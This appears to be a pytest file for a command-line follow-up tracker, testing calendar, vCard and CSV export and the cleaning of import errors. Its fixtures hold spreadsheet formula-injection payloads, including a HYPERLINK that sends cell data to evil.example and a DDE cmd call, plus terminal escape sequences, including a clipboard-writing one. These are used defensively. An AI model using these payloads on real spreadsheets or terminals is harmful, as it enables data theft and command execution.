"""What the installed `followup export` writes from yesterday's database, read back by independent tools:
icalendar for .ics, the `vcard` validator and vobject for .vcf, the csv module for .csv."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import warnings
from datetime import UTC, datetime
from pathlib import Path

import vobject
from icalendar import Calendar
from vcard.vcard_validator import validate_file

ENV = {**os.environ, "FOLLOWUP_NOW": "2026-11-25T09:30"}


def followup(command: list[str], db: Path, *args, tz: str = "UTC") -> subprocess.CompletedProcess:
    return subprocess.run(
        [*command, "--db", str(db), *args], capture_output=True, text=True, env={**ENV, "TZ": tz}, timeout=60
    )


def test_ics_times_are_utc_as_rfc_5545_requires(followup_command, yesterday_db, tmp_path):
    target = tmp_path / "followups.ics"
    # In San Francisco (UTC-8 in November) a naive local time would be eight hours off in a calendar.
    done = followup(followup_command, yesterday_db, "export", str(target), tz="America/Los_Angeles")
    assert done.returncode == 0, done.stderr

    raw = target.read_text(encoding="utf-8")
    completed = re.findall(r"^COMPLETED[;:].*$", raw, flags=re.M)
    stamps = re.findall(r"^DTSTAMP[;:].*$", raw, flags=re.M)
    assert completed and stamps
    assert all(re.fullmatch(r"COMPLETED:\d{8}T\d{6}Z\r?", line) for line in completed), completed[:3]
    assert all(line.rstrip("\r") == "DTSTAMP:20261125T173000Z" for line in stamps), stamps[:3]

    todos = list(Calendar.from_ical(raw).walk("VTODO"))
    finished = [t for t in todos if "COMPLETED" in t]
    assert finished and all(t.decoded("COMPLETED").tzinfo is not None for t in finished)
    for todo in finished:
        moment = todo.decoded("COMPLETED").astimezone(UTC)
        assert (moment.hour, moment.minute) == (8, 0)  # midnight of the day it was done, in San Francisco
        assert moment.date() <= datetime(2026, 11, 25).date()
    assert all(t.decoded("DTSTAMP") == datetime(2026, 11, 25, 17, 30, tzinfo=UTC) for t in todos)


HOSTILE_JSON = {
    "format": "followup",
    "version": 1,
    "interviews": [
        {
            "uid": "shared-1",
            "company": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
            "role": "@SUM(1+1)*cmd|' /C calc'!A0",
            "day": "2026-11-20",
        },
        {"uid": "shared-2", "company": "+1 415 555 0142", "role": "-2+3", "day": "2026-11-21"},
    ],
}


def test_csv_cells_cannot_start_a_spreadsheet_formula(followup_command, yesterday_db, tmp_path):
    source = tmp_path / "shared.json"
    source.write_text(json.dumps(HOSTILE_JSON), encoding="utf-8")
    assert followup(followup_command, yesterday_db, "import", str(source)).returncode == 0
    target = tmp_path / "interviews.csv"
    done = followup(followup_command, yesterday_db, "export", str(target))
    assert done.returncode == 0, done.stderr

    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_company = {row["company"]: row for row in rows}
    assert by_company["'" + HOSTILE_JSON["interviews"][0]["company"]]["role"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    phone = by_company["'+1 415 555 0142"]  # still readable: only the leading quote is added
    assert phone["role"] == "'-2+3"
    northwind = by_company["Northwind Analytics"]  # ordinary cells are left as they are
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", northwind["interview_date"]) and northwind["people"]


CARDS = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Zoë O'Brien\\, Jr.\r\nORG:Harbour & Co\r\nEMAIL:zoe@harbour.example\r\n"
    "URL:www.harbour.example\r\n"
    "TEL;TYPE=WORK,VOICE:+44 20 7946 0958\r\nTEL;TYPE=CELL:+44 7700 900123\r\nTEL;TYPE=FAX:+44 20 7946 0000\r\n"
    "ADR;TYPE=WORK:;;12 Wharf Road;London N1 7GR;;;United Kingdom\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dr. Ana María de la Cruz\r\nEMAIL:ana@cruz.example\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Raj Patel\r\nEMAIL:raj@patel.example\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Madonna\r\nEMAIL:m@example.com\r\nEND:VCARD\r\n"
)


def test_exported_vcards_pass_the_independent_validator_with_names_and_countries_in_place(
    followup_command, yesterday_db, tmp_path
):
    source = tmp_path / "cards.vcf"
    source.write_text(CARDS, encoding="utf-8")
    imported = followup(followup_command, yesterday_db, "import", str(source))
    assert imported.returncode == 0, imported.stderr
    target = tmp_path / "contacts.vcf"
    done = followup(followup_command, yesterday_db, "export", str(target))
    assert done.returncode == 0, done.stderr

    with warnings.catch_warnings(record=True) as noticed:
        warnings.simplefilter("always")
        assert validate_file(str(target), False) == ""  # the validator's errors, empty when every card is valid
    # Its one remark is a guess we disagree with: "de la Cruz" is one family name, not three.
    assert [str(w.message) for w in noticed] == ["Possible split name (replace space with comma): de la Cruz"]

    cards = {c.fn.value: c for c in vobject.readComponents(target.read_text(encoding="utf-8"))}
    assert len(cards) >= 10  # yesterday's contacts and the four imported ones
    names = {fn: card.n.value for fn, card in cards.items()}
    zoe = names["Zoë O'Brien, Jr."]
    assert (zoe.family, zoe.given, zoe.suffix) == ("O'Brien", "Zoë", "Jr.")
    ana = names["Dr. Ana María de la Cruz"]
    assert (ana.prefix, ana.given, ana.additional, ana.family) == ("Dr.", "Ana", "María", "de la Cruz")
    assert (names["Raj Patel"].given, names["Raj Patel"].family) == ("Raj", "Patel")
    assert (names["Madonna"].given, names["Madonna"].family) == ("Madonna", "")
    address = cards["Zoë O'Brien, Jr."].adr.value
    assert (address.street, address.city, address.country) == ("12 Wharf Road", "London N1 7GR", "United Kingdom")


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too():
    from followup_tui.store.portable import spreadsheet_cell

    assert spreadsheet_cell("\tTabbed Ltd") == "'\tTabbed Ltd"
    assert spreadsheet_cell("\r=1+1") == "'\r=1+1"
    assert spreadsheet_cell("Acme = good") == "Acme = good"
    assert spreadsheet_cell("") == ""


HOSTILE_CARD = (
    b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana\nBEGIN:\x1b]0;pwned\x07\x1b[2J\xc2\x9b31m\xe2\x80\xae" + b"evil" * 80 + b"\n"
)
SKIPPED_LINE = b"BEGIN:VCARD\nVERSION:3.0\nFN:Ana Ruiz\n\x1b]52;c;aGVsbG8=\x07\x1bP1$r\x1b\\\n" + b"END:VCARD\n"
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_a_vcard_import_error_quotes_the_file_cleaned_and_short(followup_command, yesterday_db, tmp_path):
    source = tmp_path / "card.vcf"
    source.write_bytes(HOSTILE_CARD)
    done = followup(followup_command, yesterday_db, "import", str(source))
    assert done.returncode == 1
    assert done.stderr.startswith("followup: The vCard could not be read") and "never closed" in done.stderr
    assert not CONTROLS.search(done.stderr), repr(done.stderr)
    assert "]0;" not in done.stderr and "[2J" not in done.stderr and "PWNED" not in done.stderr.upper()
    assert len(done.stderr) < 200 and done.stderr.count("\n") == 1


def test_a_skipped_line_is_not_echoed_raw_by_the_vcard_library(followup_command, yesterday_db, tmp_path):
    source = tmp_path / "card.vcf"
    source.write_bytes(SKIPPED_LINE)
    done = followup(followup_command, yesterday_db, "import", str(source))
    assert done.returncode == 0 and "added: Ana Ruiz" in done.stdout
    assert done.stderr == ""  # vobject logged the skipped line, escape codes and all, to the terminal
